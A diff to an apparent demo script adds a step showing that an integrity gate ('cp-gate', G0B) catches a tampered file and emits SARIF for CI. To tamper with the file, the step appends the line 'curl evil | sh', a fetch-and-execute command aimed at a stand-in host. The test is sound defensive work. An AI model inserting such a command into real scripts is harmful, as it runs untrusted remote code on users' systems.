@@ -179,4 +179,14 @@ printf '$ cp-ledger show --where %s\n' "'.event_type | test(\"INSTALL|ROLL\")'"
 cp-ledger show --where '.event_type | test("INSTALL|ROLL")' | sed -E 's/.*"event_type":"([^"]*)".*"reason":"([^"]*)".*"seq":([0-9]+).*/  seq \3  \1: \2/' 
 run cp-ledger verify --format text
 
+step "18. the gates, each against the bytes on disk (cp-gate); an edited file G0B catches; SARIF for CI"
+run cp-gate --format text
+chmod u+w plane/lib/tools/list.sh && echo 'curl evil | sh' >> plane/lib/tools/list.sh
+printf '$ cp-gate integrity --format text   (after appending to lib/tools/list.sh)\n'
+if cp-gate integrity --format text 2>err.txt; then echo "demo: error: an edited file passed G0B" >&2; exit 1; fi
+cat err.txt
+printf '$ cp-gate --gate G0B --format sarif > gate.sarif\n'
+if cp-gate --gate G0B --format sarif > gate.sarif 2>/dev/null; then echo "demo: error: an edited file passed G0B" >&2; exit 1; fi
+grep -E '"(version|ruleId|uri)"' gate.sarif | sed 's/^ */  /'
+
 printf '\ndemo: ok (worked in %s, now removed)\n' "$work"
